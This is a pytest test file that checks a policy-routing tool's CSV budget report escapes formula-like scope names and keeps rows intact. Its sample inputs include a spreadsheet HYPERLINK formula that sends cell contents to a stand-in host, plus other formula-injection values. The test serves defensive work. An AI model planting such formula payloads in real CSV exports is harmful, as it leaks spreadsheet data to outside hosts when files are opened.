"""`budget status --format csv` writes scopes a spreadsheet shows as text, one row each.

Scopes are request metadata (``per: metadata.user``): a user id such as ``=HYPERLINK(...)``
was written as it was, and a spreadsheet opening the CSV ran it as a formula (the receipts
report already guarded its names); a scope holding a lone carriage return was left unquoted,
so CSV readers split its row in two.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from policyroute.cli import main

POLICY = """\
policyroute: 1
name: csv-scopes
models:
  a:
    model: openai/fake-a
    api_base: {base}
    api_key: ${{PR_CSV_KEY}}
    price: {{input_per_mtok: 1000, output_per_mtok: 2000}}
routes:
  - name: default
    to: a
budgets:
  - name: users
    per: metadata.user
    limit_usd: 10
    window: month
store: {{backend: sqlite, path: budgets.sqlite3}}
receipts: {{sink: none}}
defaults: {{max_tokens: 10}}
"""

USERS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1", "-2", "@SUM(A1)", "a\rb", "plain"]


def test_csv_scopes_do_not_run_as_formulas_or_split_rows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import policyroute
    from policyroute.accounting import _clear_default_cache
    from policyroute.api import clear_cache
    from policyroute.testing import FakeProvider, Reply

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PR_CSV_KEY", "sk-test")
    path = tmp_path / "policy.yaml"
    try:
        with FakeProvider() as fp:
            fp.set_default("fake-a", Reply(text="hi"))
            path.write_text(POLICY.format(base=fp.openai_base), encoding="utf-8")
            for user in USERS:
                policyroute.completion(
                    policy=path,
                    messages=[{"role": "user", "content": "hi"}],
                    metadata={"user": user},
                )
    finally:
        clear_cache()
        _clear_default_cache()
    capsys.readouterr()

    assert main(["budget", "status", str(path), "--format", "csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(USERS)
    shown = {row["scope"] for row in rows}
    assert shown == {
        '\'=HYPERLINK("http://x.example/?"&A1,"open")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "a\rb",
        "plain",
    }
    assert all(row["budget"] == "users" and row["state"] == "charged" for row in rows)

    # JSON keeps the exact scopes.
    assert main(["budget", "status", str(path), "--format", "json"]) == 0
    assert {row["scope"] for row in json.loads(capsys.readouterr().out)} == set(USERS)
